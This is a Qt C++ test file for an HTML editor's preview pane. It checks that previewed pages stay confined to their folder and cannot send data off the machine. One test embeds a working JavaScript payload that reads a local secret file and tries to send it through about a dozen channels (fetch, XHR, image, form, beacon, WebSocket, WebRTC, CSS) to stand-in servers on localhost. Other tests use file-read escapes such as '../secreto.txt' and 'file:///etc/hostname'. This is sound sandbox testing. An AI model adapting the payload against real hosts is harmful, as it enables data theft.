#include "documentcontroller.h"
#include "folderrequestinterceptor.h"
#include "previewcontroller.h"
#include "previewpane.h"
#include "testsupport.h"
#include "webenginesandbox.h"

#include <QTcpServer>
#include <QUdpSocket>
#include <QWebEngineSettings>
#include <QWebEngineView>

using namespace zendral;
using namespace zendral::test;

namespace {

// A shown main window with its document tabs.
struct Fixture : WindowFixture
{
    QTabWidget *tabs = window.findChild<QTabWidget *>(QStringLiteral("SSTab1"));

    Fixture() { showAndWait(); }
    void clickTab(int index)
    {
        QTest::mouseClick(tabs->tabBar(), Qt::LeftButton, {},
                          tabs->tabBar()->tabRect(index).center());
        QCOMPARE(tabs->currentIndex(), index);
    }
    QWebEngineView *browser()
    {
        return window.findChild<QWebEngineView *>(QStringLiteral("browser"));
    }
};

const QString SaveFirst = PreviewController::saveFirstToPreview();

} // namespace

class TestPreview : public QObject
{
    Q_OBJECT

private slots:
    void tabClick_data();
    void tabClick();
    void pageStaysInsideItsFolder_data();
    void pageStaysInsideItsFolder();
    void nothingLeavesTheMachine();
    void wideFolderRunsNoScript_data();
    void wideFolderRunsNoScript();
};

void TestPreview::tabClick_data()
{
    QTest::addColumn<bool>("saved");
    QTest::addColumn<bool>("edited");
    QTest::newRow("right after start-up") << false << false;
    QTest::newRow("after Save") << true << false;
    QTest::newRow("an edit after Save") << true << true;
}

void TestPreview::tabClick()
{
    QFETCH(bool, saved);
    QFETCH(bool, edited);
    QTemporaryDir dir;
    Fixture f;
    f.page().setText(QStringLiteral("<html><head><title>Pagina de prueba</title></head></html>"));
    if (saved)
        f.trigger(QStringLiteral("mn_guardar"), dir.filePath(QStringLiteral("uno.html")));
    if (edited) {
        // The preview tab is visited and left once with the file saved.
        f.clickTab(1);
        f.clickTab(0);
        f.view.setFocus();
        QTest::keyClick(&f.view, Qt::Key_X);
    }
    f.prompts.notices.clear();

    f.clickTab(1);
    if (!saved || edited) {
        QCOMPARE(f.prompts.notices, QStringList(SaveFirst));
        // The tab stays where the user put it.
        QCOMPARE(f.tabs->currentIndex(), 1);
        if (f.browser())
            QTRY_COMPARE(f.browser()->url(), QUrl(QStringLiteral("about:blank")));
        return;
    }
    QVERIFY(f.prompts.notices.isEmpty());
    QVERIFY(f.browser());
    QCOMPARE(f.browser()->url(), QUrl::fromLocalFile(dir.filePath(QStringLiteral("uno.html"))));
    QTRY_COMPARE(f.browser()->title(), QStringLiteral("Pagina de prueba"));
    QVERIFY(f.browser()->isVisible());
}

void TestPreview::pageStaysInsideItsFolder_data()
{
    QTest::addColumn<QString>("script");
    QTest::addColumn<QString>("title");

    const QString xhr = QStringLiteral(
        "var x = new XMLHttpRequest();"
        "x.onload = function() { document.title = 'leido:' + x.responseText; };"
        "x.onerror = function() { document.title = 'rechazado'; };"
        "try { x.open('GET', '%1'); x.send(); } catch (e) { document.title = 'rechazado'; }");
    QTest::newRow("request for a file beside the page")
        << xhr.arg(u"dentro.txt") << QStringLiteral("leido:DENTRO");
    QTest::newRow("request for a file above the page's folder")
        << xhr.arg(u"../secreto.txt") << QStringLiteral("rechazado");
    QTest::newRow("request by absolute address")
        << xhr.arg(u"file:///etc/hostname") << QStringLiteral("rechazado");
    QTest::newRow("request through a link that leads outside")
        << xhr.arg(u"enlace.txt") << QStringLiteral("rechazado");
    // window.open used to hand back a window kept out of sight, still running the page.
    QTest::newRow("window opened on a file above the page's folder")
        << QStringLiteral(
               "var w = window.open('../secreto.txt');"
               "if (!w) { document.title = 'rechazado'; } else {"
               "  w.addEventListener('load', function() {"
               "    try { document.title = 'leido:' + w.document.body.innerText.trim(); }"
               "    catch (e) { document.title = 'rechazado'; } }); }")
        << QStringLiteral("rechazado");
}

void TestPreview::pageStaysInsideItsFolder()
{
    QFETCH(QString, script);
    QFETCH(QString, title);

    QTemporaryDir dir;
    writeBytes(dir.filePath(QStringLiteral("secreto.txt")), "SECRETO");
    writeBytes(dir.filePath(QStringLiteral("sitio/dentro.txt")), "DENTRO");
    QVERIFY(QFile::link(dir.filePath(QStringLiteral("secreto.txt")),
                        dir.filePath(QStringLiteral("sitio/enlace.txt"))));

    Fixture f;
    f.page().setText(QStringLiteral("<html><head><title>esperando</title></head><body><script>") +
                     script + QStringLiteral("</script></body></html>"));
    f.trigger(QStringLiteral("mn_guardar"), dir.filePath(QStringLiteral("sitio/pagina.html")));
    f.clickTab(1);
    QVERIFY(f.browser());
    QTRY_VERIFY_WITH_TIMEOUT(f.browser()->title().startsWith(QStringLiteral("leido:")) ||
                                 f.browser()->title() == QStringLiteral("rechazado"),
                             15000);
    QCOMPARE(f.browser()->title(), title);
}

// An attacker's page reads the file beside it and tries every way out to servers on this
// machine; the servers must see no connection at all. The browser's own guard on remote
// addresses is turned off: it let WebSocket through, and the seal must not depend on it.
void TestPreview::nothingLeavesTheMachine()
{
    QTcpServer web;
    QTcpServer socket;
    QVERIFY(web.listen(QHostAddress::LocalHost));
    QVERIFY(socket.listen(QHostAddress::LocalHost));
    QSignalSpy webCalls(&web, &QTcpServer::newConnection);
    QSignalSpy socketCalls(&socket, &QTcpServer::newConnection);
    QUdpSocket datagrams;
    QVERIFY(datagrams.bind(QHostAddress::LocalHost));

    QTemporaryDir dir;
    writeBytes(dir.filePath(QStringLiteral("sitio/secreto.txt")), "SECRETO");
    const QString attack = QStringLiteral(R"(
var H = 'http://127.0.0.1:%1/', W = 'ws://127.0.0.1:%2/', done = [];
var quiet = ['fetch', 'xhr', 'img', 'iframe', 'form', 'eventsource', 'websocket', 'prefetch',
             'webrtc'];
function settled(way) {
  done.push(way);
  if (done.length == quiet.length) {
    document.title = 'hecho:' + done.sort().join(',');
    location.href = H + 'location?d=' + s;
  }
}
var s = '';
fetch('secreto.txt').then(r => r.text()).then(t => {
  s = encodeURIComponent(t);
  fetch(H + 'fetch', {method: 'POST', body: t}).then(() => settled('fetch:llego'), () => settled('fetch'));
  var x = new XMLHttpRequest();
  x.onload = () => settled('xhr:llego'); x.onerror = () => settled('xhr');
  x.open('GET', H + 'xhr?d=' + s); x.send();
  var i = new Image(); i.onload = () => settled('img:llego'); i.onerror = () => settled('img');
  i.src = H + 'img?d=' + s;
  var f = document.createElement('iframe'); f.onload = () => settled('iframe');
  f.src = H + 'iframe?d=' + s; document.body.appendChild(f);
  var fm = document.createElement('form'); fm.method = 'POST'; fm.action = H + 'form';
  fm.target = 'destino'; fm.innerHTML = '<input name="d" value="' + s + '">';
  document.body.appendChild(fm);
  var g = document.createElement('iframe'); g.name = 'destino';
  g.onload = () => { g.onload = () => settled('form'); fm.submit(); };
  document.body.appendChild(g);
  navigator.sendBeacon(H + 'beacon', t);
  var e = new EventSource(H + 'eventsource?d=' + s);
  e.onopen = () => { e.close(); settled('eventsource:llego'); };
  e.onerror = () => { e.close(); settled('eventsource'); };
  var w = new WebSocket(W + 'websocket?d=' + s);
  w.onopen = () => settled('websocket:llego'); w.onerror = () => settled('websocket');
  var l = document.createElement('link'); l.rel = 'prefetch'; l.href = H + 'prefetch?d=' + s;
  l.onload = () => settled('prefetch:llego'); l.onerror = () => settled('prefetch');
  document.head.appendChild(l);
  for (var rel of ['preconnect', 'dns-prefetch', 'icon']) {
    var p = document.createElement('link'); p.rel = rel; p.href = H + rel;
    document.head.appendChild(p);
  }
  // Peer connections reach their servers without any request the browser could refuse.
  // A frame of its own is a fresh window, with every constructor in it.
  var blank = document.createElement('iframe'); document.body.appendChild(blank);
  var Peer = blank.contentWindow.RTCPeerConnection || window.RTCPeerConnection;
  if (!Peer) { settled('webrtc'); } else {
    var pc = new Peer({iceServers: [{urls: 'stun:127.0.0.1:%3'},
        {urls: 'turn:127.0.0.1:%1?transport=tcp', username: 'u', credential: s}]});
    pc.createDataChannel('d');
    pc.onicegatheringstatechange = () => {
      if (pc.iceGatheringState == 'complete') settled('webrtc'); };
    pc.createOffer().then(o => pc.setLocalDescription(o));
  }
  var c = document.createElement('div');
  c.style.backgroundImage = 'url(' + H + 'css?d=' + s + ')';
  c.textContent = 'x'; document.body.appendChild(c);
});
)")
                               .arg(web.serverPort())
                               .arg(socket.serverPort())
                               .arg(datagrams.localPort());

    Fixture f;
    f.page().setText(QStringLiteral("<html><head><title>esperando</title></head><body><script>") +
                     attack + QStringLiteral("</script></body></html>"));
    f.trigger(QStringLiteral("mn_guardar"), dir.filePath(QStringLiteral("sitio/ataque.html")));
    // The browser is made on the first visit to the tab; the second one loads the page again.
    f.clickTab(1);
    QVERIFY(f.browser());
    f.browser()->settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls,
                                          true);
    auto *interceptor = f.window.findChild<FolderRequestInterceptor *>();
    QVERIFY(interceptor);
    QSignalSpy refused(interceptor, &FolderRequestInterceptor::refused);
    QSignalSpy titles(f.browser(), &QWebEngineView::titleChanged);
    QSignalSpy loads(f.browser(), &QWebEngineView::loadFinished);
    // The page's last step navigates away from it: once that is over, the page is gone and
    // every request it made has been answered or dropped.
    f.clickTab(0);
    f.clickTab(1);
    const auto reached = [&] {
        QCoreApplication::processEvents();
        return webCalls.size() + socketCalls.size() + web.hasPendingConnections() +
               socket.hasPendingConnections() + datagrams.hasPendingDatagrams();
    };
    QTRY_VERIFY_WITH_TIMEOUT((!loads.isEmpty() && !loads.last().first().toBool()) || reached(),
                             60000);
    QCOMPARE(reached(), 0);
    QStringList seen;
    for (const QList<QVariant> &title : titles)
        seen.append(title.first().toString());
    QVERIFY2(seen.contains(QStringLiteral(
                 "hecho:eventsource,fetch,form,iframe,img,prefetch,webrtc,websocket,xhr")),
             qPrintable(seen.join(QStringLiteral(" | "))));
    // Every way out was tried, and the seal refused each one itself.
    QSet<QString> tried;
    for (const QList<QVariant> &address : refused)
        tried.insert(address.first().toUrl().path().mid(1));
    for (const char *way : {"fetch", "xhr", "img", "iframe", "form", "location", "beacon",
                            "eventsource", "websocket", "prefetch", "css"})
        QVERIFY2(tried.contains(QLatin1String(way)), way);
}

void TestPreview::wideFolderRunsNoScript_data()
{
    QTest::addColumn<QString>("folder");
    QTest::addColumn<bool>("scripts");
    QTest::newRow("the home folder itself") << QStringLiteral("casa") << false;
    QTest::newRow("a folder inside the home folder") << QStringLiteral("casa/web") << true;
    QTest::newRow("the root folder") << QStringLiteral("/") << false;
}

void TestPreview::wideFolderRunsNoScript()
{
    QFETCH(QString, folder);
    QFETCH(bool, scripts);
    QTemporaryDir dir;
    const QByteArray home = qgetenv("HOME");
    qputenv("HOME", QFile::encodeName(dir.filePath(QStringLiteral("casa"))));
    const QString inFolder = folder == u"/" ? folder : dir.filePath(folder);
    if (!QFileInfo(inFolder).isWritable() && !QDir().mkpath(inFolder))
        QSKIP("the folder cannot be written to");
    QTemporaryFile page(QDir(inFolder).filePath(QStringLiteral("zendral-XXXXXX.html")));
    QVERIFY(page.open());

    Fixture f;
    f.page().setText(QStringLiteral("<html><head><title>esperando</title></head><body><script>"
                                    "document.title = 'corrio';</script></body></html>"));
    f.trigger(QStringLiteral("mn_guardar"), page.fileName());
    f.clickTab(1);
    QVERIFY(f.browser());
    QSignalSpy loads(f.browser(), &QWebEngineView::loadFinished);
    QVERIFY(loads.wait(20000));
    qputenv("HOME", home);
    QCOMPARE(f.browser()->title(),
             scripts ? QStringLiteral("corrio") : QStringLiteral("esperando"));
    auto *note = child<QLabel>(&f.window, QStringLiteral("previewNote"));
    QCOMPARE(note->isVisible(), !scripts);
    if (!scripts) {
        QCOMPARE(note->text(), PreviewPane::SinScripts(QFileInfo(page.fileName()).absolutePath()));
        QCOMPARE(note->textFormat(), Qt::PlainText);
    }
}

int main(int argc, char *argv[])
{
    relaxWebEngineSandboxForRoot();
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication application(argc, argv);
    TestPreview test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_preview.moc"
